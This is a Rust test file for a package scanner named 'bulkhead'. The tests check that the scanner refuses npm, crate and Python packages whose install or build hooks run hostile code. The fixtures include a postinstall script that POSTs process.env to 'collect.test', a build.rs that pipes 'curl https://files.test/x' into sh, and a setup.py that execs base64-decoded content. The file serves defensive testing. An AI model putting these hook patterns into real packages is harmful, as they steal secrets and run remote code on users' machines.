//! `bulkhead scan` of every kind of thing, and on every kind of screen.

use std::fs;
use std::path::Path;

use serde_json::Value;

use crate::support::{Bulkhead, Place, Registry, Screen, Sdist, Upload, Wheel, archive};

const SENDS: &str = "const https = require('https');\n\
    https.request({ hostname: 'collect.test', method: 'POST' }).end(JSON.stringify(process.env));\n";
const HOOKED: &str = r#"{"name": "demo", "version": "1.0.0", "scripts": {"postinstall": "node hook.js"}}"#;

fn place() -> (Registry, Place) {
    let registry = Registry::start();
    let place = Place::before(&registry);
    (registry, place)
}

fn tar(folder: &Path, name: &str, members: &[(&str, &str)]) -> String {
    let members: Vec<_> = members.iter().map(|(path, text)| ((*path).to_owned(), text.as_bytes().to_vec())).collect();
    let path = folder.join(name);
    fs::write(&path, archive::tar_gz(&members)).expect("writes");
    path.to_str().expect("a path").to_owned()
}

/// What the scan refuses, it names by file and line, with what would run and what to do.
#[track_caller]
fn refused(screen: &Screen, words: &[&str]) {
    assert_eq!(screen.code, Some(1), "{screen}");
    for words in words {
        assert!(screen.all().contains(words), "no {words:?} in\n{screen}");
    }
}

#[test]
fn an_npm_tarball_is_judged_by_what_its_hooks_run() {
    let (_registry, place) = place();
    let folder = tempfile::tempdir().expect("a folder");
    let bad = [("package/package.json", HOOKED), ("package/hook.js", SENDS)];
    let bad = tar(folder.path(), "demo-1.0.0.tgz", &bad);
    refused(&place.run(&["scan", &bad]), &["package/hook.js:2", "install", "what to do:"]);
    let manifest = r#"{"name": "demo", "version": "1.0.1", "main": "index.js"}"#;
    let good = [("package/package.json", manifest), ("package/index.js", "module.exports = 1;\n")];
    place.run(&["scan", &tar(folder.path(), "demo-1.0.1.tgz", &good)]).expect_good();
}

#[test]
fn a_crate_is_judged_by_what_its_build_runs() {
    let (_registry, place) = place();
    let folder = tempfile::tempdir().expect("a folder");
    let manifest = "[package]\nname = \"demo\"\nversion = \"1.0.0\"\n";
    let build = "use std::process::Command;\nfn main() {\n    \
        Command::new(\"sh\").arg(\"-c\").arg(\"curl https://files.test/x | sh\").status().unwrap();\n}\n";
    let members = [
        ("demo-1.0.0/Cargo.toml", manifest),
        ("demo-1.0.0/src/lib.rs", "pub fn f() {}\n"),
        ("demo-1.0.0/build.rs", build),
    ];
    let bad = tar(folder.path(), "demo-1.0.0.crate", &members);
    refused(&place.run(&["scan", &bad]), &["demo-1.0.0/build.rs:3", "install", "what to do:"]);
    let good = tar(&folder.path().join("."), "demo-1.0.1.crate", &members[..2]);
    // The name promises another version than the manifest: the same crate, named right, is good.
    let renamed = folder.path().join("demo-1.0.0.crate");
    fs::rename(good, &renamed).expect("renames");
    place.run(&["scan", renamed.to_str().expect("a path")]).expect_good();
}

#[test]
fn a_source_distribution_is_judged_by_what_its_setup_runs() {
    let (_registry, place) = place();
    let folder = tempfile::tempdir().expect("a folder");
    let write = |sdist: Sdist| {
        let path = folder.path().join(sdist.file_name());
        fs::write(&path, sdist.build()).expect("writes");
        path.to_str().expect("a path").to_owned()
    };
    let setup = "from setuptools import setup\nimport base64\nexec(base64.b64decode('cGFzcw=='))\nsetup(name='demo')\n";
    let bad = write(Sdist::new("demo", "1.0").file("setup.py", setup));
    refused(&place.run(&["scan", &bad]), &["demo-1.0/setup.py:3", "install", "what to do:"]);
    let good = write(Sdist::new("demo", "1.1").file("setup.py", "from setuptools import setup\nsetup(name='demo')\n"));
    place.run(&["scan", &good]).expect_good();
}

#[test]
fn a_node_modules_names_the_package_that_would_run() {
    let (_registry, place) = place();
    let folder = tempfile::tempdir().expect("a folder");
    let write = |path: &str, text: &str| {
        let path = folder.path().join("node_modules").join(path);
        fs::create_dir_all(path.parent().expect("a folder")).expect("a folder");
        fs::write(path, text).expect("writes");
    };
    write("good/package.json", r#"{"name": "good", "version": "1.0.0", "main": "index.js"}"#);
    write("good/index.js", "module.exports = 1;\n");
    let target = folder.path().join("node_modules");
    let target = target.to_str().expect("a path");
    place.run(&["scan", target]).expect_good();
    write("demo/package.json", HOOKED);
    write("demo/hook.js", SENDS);
    let screen = place.run(&["scan", target]);
    refused(&screen, &["demo 1.0.0  denied", "package/hook.js:2", "what to do:", "1 thing that the policy refuses"]);
    assert!(!screen.all().contains("good 1.0.0"), "{screen}");
}

#[test]
fn a_lockfile_says_what_the_ledger_knows_of_a_release() {
    let registry = Registry::start();
    let served = registry.publish(Wheel::new("demo", "1.0"));
    let held = registry.publish(Upload::from(Wheel::new("demo", "1.1")).hours_old(2));
    let bulkhead = Bulkhead::before(&registry);
    assert_eq!(bulkhead.fetch(&served).status, 200);
    assert_eq!(bulkhead.fetch(&held).status, 403);
    let folder = tempfile::tempdir().expect("a folder");
    let lock = folder.path().join("requirements.txt");
    let scan = |text: &str| {
        fs::write(&lock, text).expect("writes");
        bulkhead.run(&["scan", "--all", lock.to_str().expect("a path")])
    };
    let known = scan("demo==1.0\n");
    assert!(known.good() && known.all().contains("the ledger: served 1 times here"), "{known}");
    assert!(known.all().contains("bulkhead ledger show --about pkg:pypi/demo@1.0"), "{known}");
    let refused = scan("demo==1.1\n");
    assert!(!refused.good(), "{refused}");
    assert!(refused.all().contains("younger than"), "the reason of the entry: {refused}");
    let unknown = scan("other==1.0\n");
    assert!(unknown.good() && !unknown.all().contains("the ledger: served"), "{unknown}");
}

#[test]
fn colours_are_for_people_who_want_them() {
    let (_registry, place) = place();
    let folder = tempfile::tempdir().expect("a folder");
    let bad = [("package/package.json", HOOKED), ("package/hook.js", SENDS)];
    let bad = tar(folder.path(), "demo-1.0.0.tgz", &bad);
    let words = ["scan", &bad];
    let coloured = |screen: &Screen| {
        assert_eq!(screen.code, Some(1), "{screen}");
        screen.as_printed().contains('\u{1b}')
    };
    assert!(coloured(&place.run_on_a_terminal(&words, &[])));
    assert!(!coloured(&place.run_on_a_terminal(&words, &[("NO_COLOR", "1")])));
    assert!(coloured(&place.run_on_a_terminal(&words, &[("NO_COLOR", "")])), "an empty one says nothing");
    assert!(!coloured(&place.run_with(&words, &[("NO_COLOR", "")])), "a pipe is no person");
    let json = place.run_on_a_terminal(&[&words[..], &["--format", "json"]].concat(), &[]);
    let json: Value = serde_json::from_str(json.as_printed()).expect("JSON without colours");
    assert_eq!(json["effect"], "deny");
}
